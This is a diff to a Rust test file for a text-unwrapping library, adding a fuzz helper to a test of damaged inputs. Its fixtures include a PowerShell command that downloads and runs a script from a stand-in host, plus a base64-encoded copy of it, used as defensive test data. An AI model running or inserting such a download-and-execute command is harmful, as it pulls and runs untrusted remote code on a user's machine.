@@ -1,6 +1,6 @@
 //! What lies under wrappings: each made outside this program, with the standard library of another language.
 
-use palisade_text::unfold::{MAX_BYTES, MAX_DEPTH, MAX_LAYERS, is_wrapped, unfold};
+use palisade_text::unfold::{MAX_BYTES, MAX_DEPTH, MAX_LAYERS, fuzz, is_wrapped, unfold};
 
 const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
 const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";
@@ -141,8 +141,6 @@ fn damaged_texts() {
             let at = next() as usize % bytes.len();
             bytes[at] = next() as u8;
         }
-        let text = String::from_utf8_lossy(&bytes);
-        let layers = unfold(&text);
-        assert!(layers.len() <= MAX_LAYERS);
+        fuzz(&bytes);
     }
 }
